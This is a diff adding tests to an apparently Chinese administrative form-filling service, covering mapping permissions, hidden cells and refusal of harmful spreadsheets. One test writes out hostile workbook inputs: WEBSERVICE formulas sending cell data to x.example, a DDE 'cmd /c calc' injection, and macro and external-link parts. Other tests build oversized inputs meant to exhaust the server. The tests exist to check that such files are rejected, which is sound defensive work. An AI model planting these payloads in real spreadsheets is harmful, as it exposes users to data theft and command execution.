@@ -13,6 +13,17 @@ const phone = '13900001234';
 const blank = (columns, rows) => Array.from({ length: rows }, () => Array(columns).fill(''));
 const villages = (...headings) => workbook({ rows: [['村', ...headings], ['口头庄村', ...headings.map(() => '')], ['河口村', ...headings.map(() => '')]] });
 const list = (...headings) => workbook({ rows: [headings, ...blank(headings.length, 4)] });
+// A workbook with parts changed, by their names: what a part becomes, or the part under another name.
+function changed(bytes, change) {
+  const parts = new Map(Object.entries(unzipped(bytes)).map(([part, { content }]) => [part, content.toString()]));
+  change(parts);
+  return zipped([...parts]);
+}
+const related = (bytes, kind, target, content) => changed(bytes, (parts) => {
+  const part = 'xl/_rels/workbook.xml.rels';
+  parts.set(part, parts.get(part).replace('</Relationships>', `<Relationship Id="more" Type="${kind}" Target="${target}"/></Relationships>`));
+  parts.set(`xl/${target}`, content);
+});
 
 function scenario(name, database) {
   describe(name, () => {
@@ -22,7 +33,7 @@ function scenario(name, database) {
       postgres = database === 'postgresql' ? await Postgres.start() : null;
       site = new Site(postgres?.url).init();
       site.addOrgs('code,name,level,kind,parent\n999002000000,竹山县,county,,999000000000\n');
-      site.openAccounts([['neighbour', '999002000000', 'officer'], ['city', '999000000000', 'officer'], ['auditor', '999001000000', 'auditor']]);
+      site.openAccounts([['neighbour', '999002000000', 'officer'], ['city', '999000000000', 'officer'], ['auditor', '999001000000', 'auditor'], ['cashier2', '999001100000', 'cashier']]);
       await site.serve();
       county = await site.orgId('county', '花溪市');
       village = await site.orgId('village', '口头庄村');
@@ -147,6 +158,60 @@ function scenario(name, database) {
       assert.equal((await good(plan('county', bytes))).json.known, null);
     });
 
+    test('what an office says is for itself and below: nobody’s word is heard above or beside, the nearest one’s counts; whole numbers are chosen each time', async () => {
+      const bytes = list('姓名', '证件号码', '性别', '自编奇名');
+      const said = (mapping, more) => ({ id: uuid(), remember: true, reason: '核对', mapping: { type: 'core.person', ...mapping }, ...more });
+      const township = await site.orgId('township', '东山镇');
+      await good(fill('village', bytes, said({ where: "sex == 'female'", headings: { 证件号码: { is: 'id_number', mask: 'full' }, 自编奇名: null, 没有的: 'core.people' } }, { org: village })));
+      const own = (await good(plan('village', bytes, { org: village }))).json;
+      assert.deepEqual([own.where, own.headings[1].is, own.headings[1].mask, own.headings[3].state], ["sex == 'female'", 'core.person.id_number', 'middle', 'left']);
+      assert.ok(!JSON.stringify(site.sql('select mapping from form_mapping')).match(/full|没有的/));
+      for (const [login, org] of [['village2', await site.orgId('village2', '河口村')], ['township', township], ['county', county], ['neighbour', other]]) {
+        const heard = (await good(plan(login, bytes, { org }))).json;
+        assert.deepEqual([heard.known, heard.where], [null, ''], login);
+      }
+      // A word that only the village has said is no heading for anybody else.
+      const odd = list('自编奇名', '别的奇名');
+      assert.equal((await good(plan('county', odd))).json.problems[0].code, 'form_no_headings');
+
+      await good(fill('township', bytes, said({ headings: { 证件号码: 'phone' } }, { org: township })));
+      const is = async (login, org) => { const { json } = await good(plan(login, bytes, { org })); return [json.known !== null, json.headings[1].is]; };
+      assert.deepEqual(await is('township', await site.orgId('township', '西偏坨村')), [true, 'core.person.phone']);
+      assert.deepEqual(await is('village', village), [true, 'core.person.id_number']);
+      assert.deepEqual([(await is('county', county))[0], (await is('village2', await site.orgId('village2', '河口村')))[0]], [false, false]);
+      await good(fill('village', bytes, said({ where: '', headings: {} }, { org: village })));
+      assert.equal((await good(plan('village', bytes, { org: village }))).json.where, '');
+
+      for (const mapping of [{ headings: Object.fromEntries(Array.from({ length: 401 }, (_, n) => [`甲${n}`, null])) }, { headings: { ['甲'.repeat(201)]: null } }, { where: '1'.repeat(1001) }])
+        assert.equal((await fill('village', bytes, said(mapping, { org: village }))).json.code, 'form_mapping');
+      const answer = await fill('cashier2', villages('家庭户', '记不住的'), { id: uuid(), remember: true, org: township, mapping: { headings: { 记不住的: null } } });
+      assert.deepEqual([answer.status, answer.json.problems[0].path], [403, 'remember']);
+    });
+
+    test('what was kept by county before: heard where an office of the county had said it, and not else', async () => {
+      const bytes = villages('家庭户', '旧时说的');
+      const { fingerprint } = (await good(plan('county', bytes))).json;
+      const keep = (login) => site.sql(`insert into form_mapping (fingerprint, mapping, at, account) values ('${fingerprint}@${county / 1e6}', '{"headings":{"旧时说的":"core.people"}}', 1, (select id from account where login = '${login}')) on conflict (fingerprint) do update set account = excluded.account`);
+      keep('village');
+      assert.equal((await good(plan('county', bytes))).json.headings[2].state, 'unknown');
+      keep('county');
+      assert.equal((await good(plan('county', bytes))).json.headings[2].is, 'core.people');
+      assert.equal((await good(plan('neighbour', bytes, { org: other }))).json.headings[2].state, 'unknown');
+      site.sql(`delete from form_mapping where fingerprint = '${fingerprint}@${county / 1e6}'`);
+    });
+
+    test('a city’s list has the records of each of its counties', async () => {
+      const bytes = list('姓名', '性别', '出生日期'), city = await site.orgId('city', '省直辖');
+      const id = uuid();
+      assert.equal((await site.command('neighbour', { type: 'core.person', move: 'enter', record: id, org: other, values: { name: '竹山人', sex: 'female', birth: '1977-07-07', id_number: idNumber('1977-07-07', 50) } })).status, 200);
+      const rows = read(await good(fill('city', bytes, { org: city, mapping: { type: 'core.person', headings: {} } })), bytes).map((row) => row[0]);
+      const own = read(await good(fill('county', bytes, { mapping: { type: 'core.person', headings: {} } })), bytes).map((row) => row[0]);
+      assert.deepEqual(own.filter(Boolean).sort(), ['姓名', '张小花', '李小雨', '王大山'].sort());
+      assert.deepEqual(rows.filter(Boolean).sort(), [...own.filter(Boolean), '竹山人'].sort());
+      const card = workbook({ rows: [['姓名', '', '性别', '']] });
+      assert.equal(read(await good(fill('city', card, { org: city, record_type: 'core.person', record: id })), card)[0][1], '竹山人');
+    });
+
     test('a figure that she may not see stays empty and says why', async () => {
       const indicators = (await site.get('county', '/api/v1/meta')).json.programmes.find((programme) => programme.id === 'domestic_violence').indicators;
       const secret = indicators.find((each) => each.name === 'domestic_violence.reported');
@@ -206,6 +271,17 @@ function scenario(name, database) {
       assert.equal((await fill('village2', bytes, { ...named, org: await site.orgId('village2', '河口村') })).json.code, 'no_such_record');
     });
 
+    test('a blank that two labels lead to is the first one’s; a row in a row is refused; the server stands', async () => {
+      const bytes = workbook({ rows: [['自编甲', '人', ''], ['自编乙', '名', ''], ['自编丙', '位', '']] });
+      const mapping = { headings: Object.fromEntries(['自编甲', '自编乙', '自编丙', '人', '名', '位'].map((each) => [each, 'core.people'])) };
+      const answer = await good(fill('county', bytes, { mapping }));
+      assert.equal(read(answer, bytes)[0][2], '3');
+      assert.deepEqual(answer.json.cells.filter((cell) => cell.cell === 'C1').map((cell) => [cell.heading, cell.value, cell.why?.code]), [['自编甲', '3', undefined], ['人', '', 'form_cell_taken']]);
+      const parts = Object.entries(unzipped(workbook({ rows: [['']] }))).map(([part, { content }]) => [part, part.endsWith('sheet1.xml') ? '<worksheet><sheetData><row r="1"><row r="2"/></row></sheetData></worksheet>' : content]);
+      assert.equal((await fill('county', zipped(parts))).json.code, 'sheet_broken');
+      await good(site.get('county', '/api/v1/today'));
+    });
+
     test('strangers, other counties and administrators are refused', async () => {
       const bytes = villages('家庭户');
       for (const path of ['plan', 'fill']) {
@@ -216,6 +292,75 @@ function scenario(name, database) {
         }
       }
       assert.equal((await site.get(null, '/api/v1/forms/meanings')).status, 401);
+    });
+
+    test('what a form is, its relations and its formulas say, not the names of its parts', async () => {
+      const rows = [['村', '家庭户'], ['口头庄村', '']], office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+      const calling = workbook({ rows: [...rows, [{ f: 'WEBSERVICE("http://x.example/?"&B2)' }, '']] });
+      const elsewhere = (to) => changed(calling, (parts) => {
+        const sheet = 'xl/worksheets/sheet1.xml', relations = 'xl/_rels/workbook.xml.rels';
+        parts.set(`xl/${to}`, parts.get(sheet));
+        parts.delete(sheet);
+        parts.set(relations, parts.get(relations).replace('worksheets/sheet1.xml', to));
+      });
+      const quoted = (f) => workbook({ rows: [...rows, [{ f }, '']] });
+      for (const [code, bytes] of [
+        ['form_calls_out', quoted(`'x"y'!A1&WEBSERVICE("http://x.example/?"&B2)`)],
+        ['form_calls_out', quoted(`'it''s"'!A1&_xlfn.WEBSERVICE("http://x.example/?"&B2)`)],
+        ['form_calls_out', quoted(`T[a"b]&"x"&cmd|'/c calc'!A0`)],
+        ['form_calls_out', quoted(`T[it'[s"b]&WEBSERVICE("x"&B2)`)],
+        ['form_calls_out', quoted('MAP(B2,_xleta.WEBSERVICE)')],
+        ['form_calls_out', elsewhere('parts/p1.xml')],
+        ['form_calls_out', elsewhere('media/p1.png')],
+        ['form_connections', related(workbook({ rows }), `${office}/connections`, 'a1.xml', '<connections/>')],
+        ['form_connections', related(workbook({ rows }), 'http://x.example/none', 'a1.xml', '<queryTable/>')],
+        ['form_macros', related(workbook({ rows }), 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vba.bin', 'x')],
+        ['form_macros', related(workbook({ rows }), 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', 'm.xml', '<a/>')],
+        ['form_calls_out', related(workbook({ rows }), `${office}/externalLink`, 'e.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')],
+        ['form_calls_out', related(workbook({ rows }), `${office}/externalLink`, 'e.xml', '<externalLink><oleLink progId="a"/></externalLink>')],
+        ['form_calls_out', related(workbook({ rows }), `${office}/table`, 't.xml', '<table><calculatedColumnFormula>WEBSERVICE(B2)</calculatedColumnFormula></table>')],
+      ]) {
+        const answer = await fill('county', bytes);
+        assert.deepEqual([answer.status, answer.json.code], [422, code], answer.text.slice(0, 300));
+      }
+      const harmless = related(quoted(`'x"y'!A1&"WEBSERVICE( | "`), `${office}/externalLink`, 'e.xml', '<externalLink><externalBook/></externalLink>');
+      assert.equal((await good(fill('county', harmless))).json.plan.links, true);
+      await good(fill('county', related(workbook({ rows }), `${office}/vmlDrawing`, 'd.vml', '<xml><br></xml>')));
+    });
+
+    test('what hardly shows is hidden, and is not filled: rows by default, columns and rows of next to no size', async () => {
+      const rows = [['村', '家庭户', '登记人员数'], ['口头庄村', '', ''], ['河口村', '', '']];
+      const thin = await good(fill('county', workbook({ rows, cols: '<col min="3" max="3" width="0.01" customWidth="1"/>' })));
+      assert.deepEqual(thin.json.cells.filter((cell) => cell.column === 2).map((cell) => cell.why?.code), ['form_hidden', 'form_hidden']);
+      const sheet = (change) => changed(workbook({ rows }), (parts) => parts.set('xl/worksheets/sheet1.xml', change(parts.get('xl/worksheets/sheet1.xml'))));
+      const low = await good(fill('county', sheet((xml) => xml.replace('<row r="3">', '<row r="3" ht="0.2" customHeight="1">'))));
+      assert.deepEqual(low.json.cells.map((cell) => cell.row), [2, 2]);
+      const narrow = await good(fill('county', sheet((xml) => xml.replace('<sheetData>', '<sheetFormatPr defaultColWidth="0.1"/><sheetData>'))));
+      assert.ok(narrow.json.cells.every((cell) => cell.why.code === 'form_hidden'));
+      const people = (inner) => changed(workbook({ rows: [['姓名', '出生日期', '性别']] }), (parts) => parts.set('xl/worksheets/sheet1.xml', parts.get('xl/worksheets/sheet1.xml').replace('<sheetData>', `${inner}<sheetData>`)));
+      assert.equal((await good(fill('village', people(''), { org: village }))).json.filled, 6);
+      const refused = await fill('village', people('<sheetFormatPr defaultRowHeight="15" zeroHeight="1"/>'), { org: village });
+      assert.deepEqual([refused.status, refused.json.code], [422, 'form_rows_short']);
+    });
+
+    test('forms made to take long are read quickly or refused', async () => {
+      const quickly = async (bytes, code, seconds = 10) => {
+        const begun = Date.now(), answer = await plan('county', bytes);
+        assert.ok(Date.now() - begun < seconds * 1000, `${Date.now() - begun} ms`);
+        assert.equal(answer.json.code ?? answer.json.kind, code, answer.text.slice(0, 200));
+      };
+      const many = (n, rows, first = 30_000) => workbook({ rows, merges: Array.from({ length: n }, (_, i) => `A${first + 2 * i}:A${first + 1 + 2 * i}`) });
+      const rows = [['村', '家庭户'], ...Array.from({ length: 19_000 }, (_, n) => [`村${n}`, ''])];
+      await quickly(many(195_000, rows), 'sheet_large');
+      await quickly(many(49_000, rows), 'orgs', 20);
+      await quickly(workbook({ rows: [['村', '家庭户']], merges: ['A1:B1', 'B1:C1'] }), 'sheet_broken');
+      // Labels with numbers beside them, all the way down.
+      await quickly(workbook({ rows: Array.from({ length: 19_000 }, () => ['家庭户', 3, '登记人员数', 4]) }), 'none', 20);
+      const long = `<sst><si><t>${'长'.repeat(300_000)}</t></si></sst>`;   // one text, in each cell
+      await quickly(changed(workbook({ rows: [['村', '家庭户'], ...Array.from({ length: 2_000 }, () => ['甲', ''])], shared: true }), (parts) => {
+        parts.set('xl/sharedStrings.xml', long);
+        parts.set('xl/worksheets/sheet1.xml', parts.get('xl/worksheets/sheet1.xml').replaceAll(/<v>[0-9]+</g, '<v>0<'));
+      }), 'sheet_large');
     });
 
     test('forms that could do harm, and what is no form, are refused with their codes', async () => {
